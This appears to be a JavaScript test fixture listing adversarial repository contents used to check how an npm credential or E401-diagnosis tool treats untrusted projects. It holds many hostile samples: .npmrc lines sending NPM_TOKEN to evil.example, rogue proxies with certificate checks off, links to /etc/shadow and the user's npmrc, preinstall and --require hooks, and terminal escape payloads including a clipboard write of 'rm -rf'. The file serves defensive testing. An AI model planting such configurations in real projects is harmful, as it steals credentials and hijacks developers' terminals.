// What a stranger may write into a repository. `files` lie in the project; the person has ~/.npmrc for npm.acme.example and NPM_TOKEN
// in the environment, which no file of theirs refers to.
import fs from 'node:fs';
import path from 'node:path';
import { execFileSync } from 'node:child_process';

const ESC = '\x1b';
// Clears the screen, sets the title, writes the clipboard, a link, a C1 sequence, right-to-left override, a lone CR.
export const orders = `${ESC}[2J${ESC}]0;pwned\x07${ESC}]52;c;cm0gLXJm\x07${ESC}]8;;https://evil.example\x07x${ESC}]8;;\x07\u009b31m\u202e\r\x08\x7f`;

const lock = resolved => ({ json: { name: 'cloned', version: '1.0.0', lockfileVersion: 3, requires: true, packages: {
  '': { name: 'cloned', version: '1.0.0', dependencies: { '@acme/widgets': '^1.0.0', 'left-pad': '^1.0.0' } },
  'node_modules/@acme/widgets': { version: '1.0.0', resolved: `${resolved}/@acme/widgets/-/widgets-1.0.0.tgz`, integrity: 'sha512-' + 'A'.repeat(86) + '==' },
  'node_modules/left-pad': { version: '1.0.0', resolved: `${resolved}/left-pad/-/left-pad-1.0.0.tgz`, integrity: 'sha512-' + 'A'.repeat(86) + '==' },
} } });
const refuse = { path: '.', status: 401, headers: { 'content-type': 'application/json', 'www-authenticate': 'Bearer realm="evil"' }, body: { error: 'log in' } };
const npmLog = (project, url, extra = []) => ['0 verbose cli /usr/bin/node /usr/bin/npm', '1 info using npm@12.2.0', '2 info using node@v24.0.0', '3 verbose title npm install', '4 verbose argv "install"',
  `5 http fetch GET 401 ${url} 12ms (cache skip)`, ...extra.map((l, i) => `${6 + i} ${l}`), `30 verbose stack HttpErrorGeneral: 401 Unauthorized - GET ${url}`, `31 verbose cwd ${project}`, '32 error code E401',
  `33 error 401 Unauthorized - GET ${url}`, '34 verbose exit 1'].join('\n') + '\n';

// npm's own log of a run with these arguments, failed at the stranger's host.
const logOf = (project, words) => npmLog(project, 'https://evil.example/left-pad').replace('argv "install"', `argv ${words.map(w => JSON.stringify(w)).join(' ')}`);
const logName = '2026-09-21T10_00_00_000Z-debug-0.log';
// Commands that act for the person: what they are asked for comes from the files.
const asThePerson = [['whoami'], ['whoami', '--all', '--verify'], ['ping'], ['token', 'check'], ['token', 'list'], ['logout'], ['login', '--auth-type', 'web', '--no-browser', '--timeout', '1'], ['login', '--auth-type', 'legacy'], ['login', '--auth-type', 'token', '--registry', 'https://npm.acme.example/']];
const noProxy = { HTTPS_PROXY: undefined, https_proxy: undefined, HTTP_PROXY: undefined, http_proxy: undefined };

export const attacks = [
  {
    name: 'token-for-my-registry', story: 'the project names its own registry and refers to NPM_TOKEN for it',
    files: () => ({ '.npmrc': ['registry=https://evil.example/', '//evil.example/:_authToken=${NPM_TOKEN}', '//evil.example/:always-auth=true'] }),
    evil_overrides: [refuse],
  },
  {
    name: 'takes-over-a-scope', story: 'the project sends the person\'s scope to another host, with every kind of credential it can name',
    files: () => ({ '.npmrc': ['@acme:registry=https://evil.example/npm/', '//evil.example/npm/:_authToken=${NPM_TOKEN}', '//evil.example/:_auth=${NPM_TOKEN}', '//evil.example/:username=x', '//evil.example/:_password=${NPM_TOKEN}', '_authToken=${NPM_TOKEN}'] }),
    evil_overrides: [refuse],
  },
  {
    name: 'under-my-key', story: 'the project files NPM_TOKEN under another path of the person\'s own host',
    files: () => ({ '.npmrc': ['@acme:registry=https://npm.acme.example/team/', '//npm.acme.example/team/:_authToken=${NPM_TOKEN}'] }),
    good_overrides: [{ path: '^team', when: 'none', status: 401, body: { error: 'log in' } }],
  },
  {
    name: 'secret-in-the-host-name', story: 'a registry\'s host, path, query and user name hold the variable: asking for its name tells it',
    files: () => ({ '.npmrc': ['registry=https://${NPM_TOKEN}.evil.example/', '@acme:registry=https://evil.example/${NPM_TOKEN}/', '@b:registry=https://${NPM_TOKEN}:x@evil.example/'],
      'package.json': { json: { name: 'cloned', version: '1.0.0', dependencies: { '@acme/widgets': '1', '@b/c': '1', 'left-pad': '1' }, publishConfig: { registry: 'https://evil.example/${NPM_TOKEN}/' } } } }),
    evil_overrides: [refuse],
  },
  {
    name: 'my-proxy-my-ca', story: 'the project names a proxy, trusts its CA and switches the check of certificates off, for the person\'s own registry',
    files: ctx => ({ '.npmrc': [`https-proxy=${ctx.evilProxy}`, `proxy=${ctx.evilProxy}`, `http-proxy=${ctx.evilProxy}`, 'noproxy=', 'strict-ssl=false', 'cafile=./evil-ca.pem'], 'evil-ca.pem': ctx.evilCa }),
    env: noProxy,
  },
  {
    name: 'plain-http', story: 'the project asks the person\'s own host without TLS',
    files: ctx => ({ '.npmrc': ['@acme:registry=http://npm.acme.example/', `proxy=${ctx.evilProxy}`] }),
  },
  {
    name: 'my-userconfig', story: 'the project names another user file, which then looks like the person\'s own',
    files: ctx => ({ '.npmrc': ['userconfig=./evil-userconfig', 'globalconfig=./evil-globalconfig'],
      'evil-userconfig': ['registry=https://evil.example/', '@acme:registry=https://evil.example/', '//evil.example/:_authToken=${NPM_TOKEN}', 'cache=./evil-cache'],
      'evil-cache/_logs/2026-09-21T10_00_00_000Z-debug-0.log': npmLog(ctx.project, 'https://evil.example/left-pad'),
      'evil-globalconfig': ['registry=https://evil.example/', '//evil.example/:_authToken=${NPM_TOKEN}'] }),
    evil_overrides: [refuse],
  },
  {
    name: 'my-userconfig-and-proxy', story: 'the other user file knows the person\'s registry, and a proxy with its own CA',
    files: ctx => ({ '.npmrc': [`userconfig=${ctx.project}/evil-userconfig`],
      'evil-userconfig': ['@acme:registry=https://npm.acme.example/', '//npm.acme.example/:_authToken=${NPM_TOKEN}', `https-proxy=${ctx.evilProxy}`, 'strict-ssl=false'] }),
  },
  {
    name: 'my-prefix', story: 'the project names a prefix and cache of its own',
    files: ctx => ({ '.npmrc': ['prefix=./evil-prefix', 'cache=./evil-cache', 'logs-dir=./evil-logs'], 'evil-prefix/etc/npmrc': ['registry=https://evil.example/', '//evil.example/:_authToken=${NPM_TOKEN}'],
      'evil-logs/2026-09-21T10_00_00_000Z-debug-0.log': npmLog(ctx.project, 'https://evil.example/left-pad'),
      'evil-cache/_logs/2026-09-21T10_00_00_000Z-debug-0.log': npmLog(ctx.project, 'https://evil.example/left-pad') }),
    evil_overrides: [refuse],
  },
  {
    name: 'a-planted-log', story: 'a log in the project\'s own folder says that npm has already sent the credential there',
    files: ctx => ({ '.npmrc': ['registry=https://evil.example/', '//evil.example/:_authToken=${NPM_TOKEN}', 'logs-dir=./_logs'], '_logs/2026-09-21T10_00_00_000Z-debug-0.log': npmLog(ctx.project, 'https://evil.example/left-pad') }),
    evil_overrides: [refuse],
  },
  ...['logs-dir=./_logs', 'cache=./_c'].map(setting => ({
    name: `a-planted-command-line-${setting.split('=')[0]}`, story: 'a log that came with the project says what the person has typed: the registry, and the variable for it',
    files: ctx => ({ '.npmrc': [setting, '_authToken=${NPM_TOKEN}', '//evil.example/:_authToken=$NPM_TOKEN'],
      [`${setting.split('=')[1]}${setting.startsWith('cache') ? '/_logs' : ''}/${logName}`]: logOf(ctx.project, ['install', '--registry=https://evil.example/', '--//evil.example/:_authToken=${NPM_TOKEN}']) }),
    prepare: ctx => { for (const d of ['_logs', '_c/_logs']) try { fs.utimesSync(path.join(ctx.project, d, logName), 4e9, 4e9); } catch {} },
    // The person's own setting would win over the project's.
    env: setting.startsWith('cache') ? { npm_config_cache: undefined } : {},
    commands: () => [['run', '--', 'false']],
    evil_overrides: [refuse],
  })),
  {
    name: 'a-command-line-that-is-printed', story: 'a command of the project prints what looks like npm and its failure',
    files: () => ({ 'says.txt': '$ npm install --registry=https://evil.example/ --//evil.example/:_authToken=${NPM_TOKEN}\nnpm error code E401\nnpm error 401 Unauthorized - GET https://evil.example/left-pad\n' }),
    commands: () => [['run', '--', '/bin/sh', '-c', 'cat says.txt; exit 1']],
    evil_overrides: [refuse],
  },
  {
    name: 'a-log-of-the-past', story: 'npm\'s own log shows a request there, and the key and the proxy came with a later pull',
    files: ctx => ({ '.npmrc': ['registry=https://evil.example/', '//evil.example/:_authToken=${NPM_TOKEN}', '@acme:registry=https://npm.acme.example/team/', '//npm.acme.example/team/:_authToken=${NPM_TOKEN}'],
      [`../cache/_logs/${logName}`]: npmLog(ctx.project, 'https://evil.example/left-pad', ['http fetch GET 401 https://npm.acme.example/@acme%2fwidgets 9ms (cache skip)']) }),
    prepare: ctx => fs.utimesSync(path.join(ctx.dir, 'cache/_logs', logName), 1.7e9, 1.7e9),
    evil_overrides: [refuse],
  },
  {
    name: 'as-npm-exports-it', story: 'a script of the project starts e401: npm hands it the project\'s settings as variables',
    files: ctx => ({ '.npmrc': ['registry=https://evil.example/', '//evil.example/:_authToken=${NPM_TOKEN}', `https-proxy=${ctx.evilProxy}`, 'noproxy=none.example', 'strict-ssl=false', 'userconfig=./evil-userconfig'],
      'evil-userconfig': ['@acme:registry=https://npm.acme.example/', '//npm.acme.example/:_authToken=${NPM_TOKEN}'] }),
    env: ctx => ({ ...noProxy, npm_command: 'exec', npm_lifecycle_event: 'npx', npm_execpath: '/usr/lib/node_modules/npm/bin/npm-cli.js', npm_config_registry: 'https://evil.example/', npm_config_https_proxy: `${ctx.evilProxy}/`,
      npm_config_noproxy: 'none.example', npm_config_strict_ssl: '', npm_config_userconfig: `${ctx.project}/evil-userconfig` }),
    evil_overrides: [refuse], commands: () => asThePerson,
  },
  {
    name: 'my-proxy-hears-all', story: 'the project\'s proxy is told the variable, and everything that the person sends',
    files: ctx => ({ '.npmrc': [`proxy=${ctx.evilProxy.replace('//', '//x:${NPM_TOKEN}@')}`, `https-proxy=${ctx.evilProxy.replace('//', '//x:${NPM_TOKEN}@')}`, 'noproxy=none.example', 'strict-ssl=false'] }),
    env: noProxy, commands: () => asThePerson,
  },
  {
    name: 'my-plain-proxy', story: 'the project\'s proxy hears what commands for the person send to their own registry',
    files: ctx => ({ '.npmrc': ['registry=http://npm.acme.example/', `proxy=${ctx.evilProxy}`, 'noproxy=none.example'] }),
    env: noProxy, commands: () => asThePerson,
  },
  {
    name: 'your-file-is-mine', story: 'the project names the user file that commands for the person read and write',
    files: () => ({ '.npmrc': ['userconfig=./committed.ini'], 'committed.ini': ['registry=https://evil.example/', '//evil.example/:_authToken=${NPM_TOKEN}'] }),
    evil_overrides: [refuse], commands: () => asThePerson,
  },
  {
    name: 'your-bashrc-is-your-npmrc', story: 'the user file that the project names is another file of the person\'s',
    files: () => ({ '.npmrc': ['userconfig=${HOME}/.bashrc', '//npm.acme.example/:_authToken=literal-of-the-project'], '../home/.bashrc': 'export A=1\n' }),
    commands: () => asThePerson,
  },
  {
    name: 'your-certificate', story: 'the project presents the person\'s client certificate, and asks their host without TLS',
    files: () => ({ '.npmrc': ['@acme:registry=http://npm.acme.example/', '//npm.acme.example/:certfile=${HOME}/.npmrc', '//npm.acme.example/:keyfile=${HOME}/.npmrc', 'registry=https://evil.example/', '//evil.example/:certfile=${HOME}/.npmrc', '//evil.example/:keyfile=${HOME}/.npmrc'] }),
    evil_overrides: [refuse], commands: () => asThePerson,
  },
  {
    name: 'redirects', story: 'the person\'s registry and the stranger\'s send e401 to each other, to loopback and in a circle',
    files: () => ({ '.npmrc': ['registry=https://evil.example/'] }),
    good_overrides: [{ path: 'widgets', status: 302, headers: { location: 'https://evil.example/take' }, body: '' }],
    evil_overrides: [{ path: 'take', status: 302, headers: { location: 'https://npm.acme.example/old/take' }, body: '' }, { path: 'left-pad', status: 302, headers: { location: 'https://evil.example/left-pad' }, body: '' },
      { path: '.', status: 302, headers: { location: 'http://127.0.0.1:1/' }, body: '' }],
  },
  {
    name: 'lockfile-and-publish', story: 'lockfile, publishConfig and dependencies point elsewhere',
    files: () => ({ '.npmrc': ['//evil.example/:_authToken=${NPM_TOKEN}', '//evil.example/:certfile=${HOME}/.npmrc', '//evil.example/:keyfile=${HOME}/.npmrc', 'replace-registry-host=always'], 'package-lock.json': lock('https://evil.example'),
      'package.json': { json: { name: '@acme/cloned', version: '1.0.0', publishConfig: { registry: 'https://evil.example/', '@acme:registry': 'https://evil.example/', '//evil.example/:_authToken': '${NPM_TOKEN}' },
        dependencies: { '@acme/widgets': 'https://evil.example/widgets.tgz', 'left-pad': 'git+ssh://git@evil.example/x.git', b: 'git+file:///etc', c: 'file:../../../etc', d: 'npm:@acme/widgets@1' } } } }),
    evil_overrides: [refuse],
  },
  {
    name: 'orders-in-names', story: 'keys, values, package names, versions and addresses are full of terminal sequences',
    files: () => ({ '.npmrc': `registry=https://evil.example/${orders.replace(/[\r\n]/g, '')}\n@acme:registry=https://evil.example/\n//evil.example/:_authToken${orders.replace(/[\r\n]/g, '')}=x${orders}\n[${ESC}[31m]\n${orders}=${orders}\n_authToken=${ESC}]0;t\x07\n`,
      'package.json': { json: { name: `@acme/${orders}`, version: `1.0.0${orders}`, dependencies: { [`@acme/${orders}`]: '1', [`left${orders}`]: `https://evil.example/${orders}`, '@acme/widgets': orders }, publishConfig: { registry: `https://evil.example/${orders}` }, packageManager: `npm@${orders}`, engines: { npm: orders }, workspaces: [`packages/${orders}`] } },
      'package-lock.json': lock(`https://evil.example/${orders}`) }),
    evil_overrides: [refuse],
  },
  {
    name: 'orders-in-paths', story: 'the project\'s folder and a stray npmrc have terminal sequences in their names', folder: `pro${ESC}[31mject\u202e\r`,
    files: () => ({ '.npmrc': ['@acme:registry=https://npm.acme.example/', '//npm.acme.example/:_authtoken=abc'], [`.npmrc${ESC}[2J`]: ['x=y'], 'npmrc': ['//npm.acme.example/:_authToken=zzz'] }),
  },
  {
    name: 'orders-from-the-server', story: 'the registry answers with terminal sequences in headers, body and addresses',
    files: () => ({ '.npmrc': ['registry=https://evil.example/'] }),
    evil_overrides: [{ path: 'ping', status: 401, headers: { 'npm-notice': 'see \x9b31m \x85', 'www-authenticate': 'Bearer realm="\x9b2J"', 'content-type': 'text/plain' }, body: orders },
      { path: 'left-pad', status: 403, headers: { 'content-type': 'application/json', 'npm-notice': 'a\x9b2Jb', server: '\x9bserver' }, body: { error: orders, message: orders, errors: [{ message: orders }] } },
      { path: '.', status: 401, headers: { 'content-type': 'text/html', location: 'https://evil.example/\x9b' }, body: `<html><title>${orders}</title>` }],
    commands: () => [['doctor', 'left-pad'], ['ping'], ['why', `@acme/${ESC}[31mx`, `https://evil.example/${ESC}[31m`]],
  },
  {
    name: 'a-log-to-explain', story: 'a log that the person is asked to explain is full of terminal sequences and secrets',
    files: ctx => ({ 'npm-debug.log': npmLog(ctx.project + orders.replace(/[\r\n]/g, ''), `https://evil.example/left-pad${orders.replace(/[\r\n]/g, '')}`, [`silly x ${orders}`, `http fetch GET 401 https://u:${ctx.secrets.variable}@evil.example/x 1ms`, `verbose argv "install" "--//evil.example/:_authToken=${ctx.secrets.variable}"`]),
      'terminal.txt': `npm error code E401\nnpm error ${orders} 401 Unauthorized - GET https://evil.example/${ctx.secrets.variable}\n${orders}\n` }),
    commands: () => [['explain', 'npm-debug.log'], ['explain', 'terminal.txt'], ['explain', '--json', 'npm-debug.log'], ['explain', `${ESC}[31mno-such-code`]],
  },
  {
    name: 'programs', story: 'every setting that names a program names the stranger\'s, and npm itself is theirs',
    files: () => ({ '.npmrc': ['script-shell=./node_modules/.bin/sh', 'shell=./node_modules/.bin/sh', 'git=./node_modules/.bin/git', 'browser=./node_modules/.bin/xdg-open', 'editor=./node_modules/.bin/sh', 'viewer=./node_modules/.bin/sh',
        'node-options=--require ./evil.cjs', 'onload-script=./evil.cjs', 'init-module=./evil.cjs', 'tokenHelper=./node_modules/.bin/helper', '//npm.acme.example/:tokenHelper=./node_modules/.bin/helper'],
      '.yarnrc.yml': 'yarnPath: .yarn/releases/yarn-4.0.0.cjs\nplugins:\n  - ./evil.cjs\n', '.yarnrc': 'yarn-path ".yarn/releases/yarn-4.0.0.cjs"\n', 'pnpm-workspace.yaml': 'packages: ["."]\n',
      'node_modules/npm/package.json': { json: { name: 'npm', version: `99.0.0${ESC}[31m` } }, 'node_modules/npm/npmrc': ['registry=https://evil.example/', '//evil.example/:_authToken=${NPM_TOKEN}'], 'node_modules/.bin/package.json': { json: { name: 'npm', version: '1' } },
      'package.json': { json: { name: 'cloned', version: '1.0.0', packageManager: 'yarn@4.0.0', scripts: { preinstall: 'node evil.cjs' }, dependencies: { '@acme/widgets': '1', 'left-pad': '1' } } } }),
    evil_overrides: [refuse],
    // npm is found through PATH, and that one is the project's: a link, as npm itself makes it.
    afterwards: ctx => {
      const bin = path.join(ctx.project, 'node_modules/.bin/npm');
      fs.mkdirSync(path.join(ctx.project, 'node_modules/npm/bin'), { recursive: true });
      fs.renameSync(bin, path.join(ctx.project, 'node_modules/npm/bin/npm-cli.js'));
      fs.symlinkSync('../npm/bin/npm-cli.js', bin);
    },
  },
  {
    name: 'pipes-and-devices', story: 'files that never end or never begin',
    files: () => ({ 'package.json': null }),
    prepare: ctx => {
      for (const f of ['.npmrc', 'package-lock.json']) execFileSync('mkfifo', [path.join(ctx.project, f)]);
      fs.symlinkSync('/dev/zero', path.join(ctx.project, 'package.json'));
      fs.symlinkSync('npm-shrinkwrap.json', path.join(ctx.project, 'npm-shrinkwrap.json'));
    },
  },
  {
    name: 'a-link-to-my-file', story: 'the project\'s npmrc is a link to the person\'s own, and the lockfile to a key',
    files: () => ({ '.npmrc': { symlink: '../home/.npmrc' }, 'package-lock.json': { symlink: '../home/.npmrc' }, npmrc: { symlink: '/etc/shadow' } }),
  },
  {
    name: 'too-much', story: 'an endless line, a deep document, a hundred megabytes',
    files: () => ({ '.npmrc': '//evil.example/:_authToken=' + 'x'.repeat(3 << 20) + '\n' + '[a]\n'.repeat(50_000), 'package.json': '{"a":'.repeat(100_000) + '1' + '}'.repeat(100_000), 'package-lock.json': '[' .repeat(1_000_000) }),
    prepare: ctx => fs.truncateSync(path.join(ctx.project, 'package-lock.json'), 100 << 20),
  },
];
